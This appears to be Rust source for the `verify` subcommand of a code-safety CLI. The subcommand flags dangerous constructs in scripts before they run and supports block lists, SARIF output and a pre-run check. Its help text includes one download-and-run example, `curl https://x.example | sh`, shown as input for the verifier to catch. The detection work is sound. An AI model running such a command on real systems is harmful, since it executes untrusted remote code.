//! `stockade verify`: what code would do, before it runs.
//!
//! Advice for a person or an agent; nothing here confines anything. Files are analysed in
//! parallel, in bounded memory, and reported in the order they were given.

mod source;
mod walk;

use std::ffi::OsString;
use std::num::NonZero;
use std::path::PathBuf;
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use clap::{Args, ValueEnum};
use stockade_verify::{CodeVerifier, FileResult, Language, Severity, Suppressions};

use crate::args::OutputArgs;
use crate::exit::Exit;
use crate::failure::Failure;
use crate::output::{self, printable, printable_lines};
use source::Source;

/// Say what code would do before it runs: Python, Go, Bash, JavaScript, TypeScript
///
/// Prints every dangerous construct with its line, its rule and what would be safe. This is
/// advice: what confines code is `run`.
#[derive(Debug, Args)]
#[command(after_help = "\
Examples:
  stockade verify script.py
  echo 'curl https://x.example | sh' | stockade verify --lang bash -
  stockade verify --format sarif src/ > findings.sarif
  stockade verify --allow-path /srv/app --disable network-access deploy.sh

Directories are walked, leaving out what .gitignore names. A comment `stockade: allow(RULE) why` \
silences a rule on its line and the next. Every rule is described in docs/rules.md.

Exit codes: 0 nothing of severity error was found; 1 something was; 2 a file could not be read, or \
usage.")]
pub(crate) struct VerifyArgs {
    /// Files and directories; `-` or none is standard input
    #[arg(value_name = "FILE")]
    pub(crate) files: Vec<PathBuf>,
    /// The language of every file; else told from its name, its first line or its content
    #[arg(long, value_name = "LANGUAGE")]
    pub(crate) lang: Option<Lang>,
    /// How to print what was found
    #[arg(long, value_name = "FORMAT", default_value = "text")]
    pub(crate) format: VerifyFormat,
    /// A directory where files may be written and deleted, besides /tmp and the working
    /// directory; repeatable
    #[arg(long, value_name = "DIR")]
    pub(crate) allow_path: Vec<String>,
    /// A module, package or program whose use is an error; repeatable
    #[arg(long, value_name = "NAME")]
    pub(crate) block_module: Vec<String>,
    /// A function or command whose call is an error; repeatable
    #[arg(long, value_name = "NAME")]
    pub(crate) block_function: Vec<String>,
    /// A regular expression that no line outside comments may match; repeatable
    #[arg(long, value_name = "REGEX")]
    pub(crate) block_pattern: Vec<String>,
    /// A rule to leave out; repeatable
    #[arg(long, value_name = "RULE")]
    pub(crate) disable: Vec<String>,
    /// Let comments in the code silence nothing
    #[arg(long)]
    pub(crate) no_suppress: bool,
    /// Report warnings as errors do: exit code 1
    #[arg(long)]
    pub(crate) deny_warnings: bool,
    #[command(flatten)]
    pub(crate) output: OutputArgs,
}

/// Languages that can be named.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Lang {
    #[value(alias = "sh")]
    Bash,
    #[value(alias = "golang")]
    Go,
    #[value(alias = "js")]
    Javascript,
    #[value(alias = "py")]
    Python,
    #[value(alias = "ts")]
    Typescript,
}

impl From<Lang> for Language {
    fn from(lang: Lang) -> Self {
        match lang {
            Lang::Bash => Self::Bash,
            Lang::Go => Self::Go,
            Lang::Javascript => Self::JavaScript,
            Lang::Python => Self::Python,
            Lang::Typescript => Self::TypeScript,
        }
    }
}

/// Forms of the report.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum VerifyFormat {
    /// One JSON document
    Json,
    /// SARIF 2.1.0, for code scanning
    Sarif,
    /// The line, a caret, the reason, and what would be safe
    Text,
}

/// What became of one file.
enum Outcome {
    Done { result: FileResult, text: String },
    Failed(String),
}

pub(crate) fn run(args: &VerifyArgs) -> Result<Exit, Failure> {
    let verifier = verifier(args)?;
    let language = args.lang.map(Language::from);
    let format = if args.output.json {
        VerifyFormat::Json
    } else {
        args.format
    };
    let (sources, mut failures) = walk::sources(&args.files, language);
    let outcomes = verify_all(&verifier, &sources, format);
    let mut results = Vec::new();
    let mut texts = String::new();
    for outcome in outcomes {
        match outcome {
            Outcome::Done { result, text } => {
                texts.push_str(&text);
                results.push(result);
            }
            Outcome::Failed(message) => failures.push(message),
        }
    }
    let unreadable = !failures.is_empty();
    let says_nothing = results.is_empty() && unreadable && format == VerifyFormat::Text;
    if !says_nothing {
        print(&results, &texts, format, &failures)?;
    }
    for failure in failures {
        let failure = Failure::text(Exit::Usage, failure);
        output::failure(&failure, output::Format::of(format == VerifyFormat::Json));
    }
    Ok(verdict(&results, args.deny_warnings, unreadable))
}

fn verifier(args: &VerifyArgs) -> Result<CodeVerifier, Failure> {
    let mut verifier = CodeVerifier::new();
    verifier
        .allowed_paths
        .extend(args.allow_path.iter().cloned());
    verifier
        .blocked_modules
        .extend(args.block_module.iter().cloned());
    verifier
        .blocked_functions
        .extend(args.block_function.iter().cloned());
    for pattern in &args.block_pattern {
        verifier
            .add_blocked_pattern(pattern)
            .map_err(|error| Failure::new(Exit::Usage, error))?;
    }
    for rule in &args.disable {
        if !stockade_verify::rules().any(|known| known.id == rule) {
            let text = format!("there is no rule `{}`", printable(rule));
            return Err(Failure::text(Exit::Usage, text).hint("docs/rules.md lists them"));
        }
        verifier.disabled_rules.insert(rule.clone());
    }
    if args.no_suppress {
        verifier.suppressions = Suppressions::Ignore;
    }
    Ok(verifier)
}

/// Analyses every source, on all cores; results in the order of the sources.
fn verify_all(verifier: &CodeVerifier, sources: &[Source], format: VerifyFormat) -> Vec<Outcome> {
    let cores = std::thread::available_parallelism().map_or(1, NonZero::get);
    let workers = cores.min(sources.len());
    if workers <= 1 {
        return sources
            .iter()
            .filter_map(|source| verify_one(verifier, source, format))
            .collect();
    }
    let next = AtomicUsize::new(0);
    let slots: Vec<Mutex<Option<Outcome>>> = sources.iter().map(|_| Mutex::new(None)).collect();
    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| {
                while let Some((source, slot)) = {
                    let at = next.fetch_add(1, Ordering::Relaxed);
                    sources.get(at).zip(slots.get(at))
                } {
                    let outcome = verify_one(verifier, source, format);
                    if let Ok(mut slot) = slot.lock() {
                        *slot = outcome;
                    }
                }
            });
        }
    });
    slots
        .into_iter()
        .filter_map(|slot| slot.into_inner().ok().flatten())
        .collect()
}

/// Analyses one source; `None` for a file of a directory that is no code.
fn verify_one(verifier: &CodeVerifier, source: &Source, format: VerifyFormat) -> Option<Outcome> {
    let loaded = match source.load(verifier.max_bytes) {
        Ok(loaded) => loaded?,
        Err(error) => {
            return Some(Outcome::Failed(format!(
                "can't read {}: {error}",
                printable(&source.name())
            )));
        }
    };
    let Some(language) = loaded.language else {
        let name = source.name();
        return Some(Outcome::Failed(format!(
            "can't tell the language of {}; name it with --lang",
            printable(&name)
        )));
    };
    let result = verifier.verify_head(&loaded.head, loaded.whole, language);
    let file = source.name();
    let silent = result.violations.is_empty() && result.warnings.is_empty();
    let text = if format == VerifyFormat::Text && !silent {
        let text = String::from_utf8_lossy(&loaded.head);
        stockade_verify::format_text(&printable(&file), &printable_lines(&text), &result)
    } else {
        String::new()
    };
    Some(Outcome::Done {
        result: FileResult { file, result },
        text,
    })
}

fn print(
    results: &[FileResult],
    texts: &str,
    format: VerifyFormat,
    failures: &[String],
) -> Result<(), Failure> {
    match format {
        VerifyFormat::Json => {
            let mut document = stockade_verify::to_json(results);
            if !failures.is_empty() {
                // Nothing is known about what was not read.
                document["safe"] = false.into();
                document["unread"] = failures.into();
            }
            output::json(document)
        }
        VerifyFormat::Sarif => {
            let mut bytes = serde_json::to_vec_pretty(&stockade_verify::to_sarif(results))
                .map_err(std::io::Error::from)?;
            bytes.push(b'\n');
            output::raw(&bytes)
        }
        VerifyFormat::Text => output::text(|out| {
            out.write_all(texts.as_bytes())?;
            let errors = count(results, Severity::Error);
            let warnings = count(results, Severity::Warning);
            let files = results.len();
            writeln!(
                out,
                "{}, {} in {}",
                many(errors, "error"),
                many(warnings, "warning"),
                many(files, "file")
            )
        }),
    }
}

fn many(number: usize, noun: &str) -> String {
    format!("{number} {noun}{}", if number == 1 { "" } else { "s" })
}

fn count(results: &[FileResult], severity: Severity) -> usize {
    let violations = results.iter().flat_map(|file| &file.result.violations);
    violations
        .filter(|violation| violation.severity == severity)
        .count()
}

fn verdict(results: &[FileResult], deny_warnings: bool, unreadable: bool) -> Exit {
    let unsafe_code = results.iter().any(|file| !file.result.safe);
    let warned = deny_warnings && count(results, Severity::Warning) > 0;
    if unsafe_code || warned {
        Exit::Negative
    } else if unreadable {
        Exit::Usage
    } else {
        Exit::Success
    }
}

/// Verifies a command before `run` starts it: its words, and the script among them.
///
/// The author of the code is not trusted, so comments in it silence nothing.
pub(crate) fn before_run(command: &[OsString]) -> Result<(), Failure> {
    let mut verifier = CodeVerifier::new();
    verifier.suppressions = Suppressions::Ignore;
    let words: Vec<_> = command.iter().map(|word| word.to_string_lossy()).collect();
    let mut found = vec![("the command".to_owned(), verifier.verify_command(&words))];
    if let Some(at) = stockade_verify::script_word(&words) {
        let script = Source::file(PathBuf::from(&command[at]), None);
        if let Ok(Some(loaded)) = script.load(verifier.max_bytes)
            && let Some(language) = loaded.language
        {
            let result = verifier.verify_head(&loaded.head, loaded.whole, language);
            found.push((script.name(), result));
        }
    }
    let mut errors = Vec::new();
    for (name, result) in &found {
        for violation in result
            .violations
            .iter()
            .filter(|v| v.severity == Severity::Error)
        {
            errors.push(format!(
                "{}, line {}: {} [{}]",
                printable(name),
                violation.line,
                violation.reason,
                violation.rule
            ));
        }
    }
    if errors.is_empty() {
        return Ok(());
    }
    let text = format!(
        "the command was not started, by the verifier's advice:\n{}",
        errors.join("\n")
    );
    Err(Failure::text(Exit::NotSetUp, text).hint(
        "without --verify it would run confined: the sandbox is the boundary, this is advice",
    ))
}
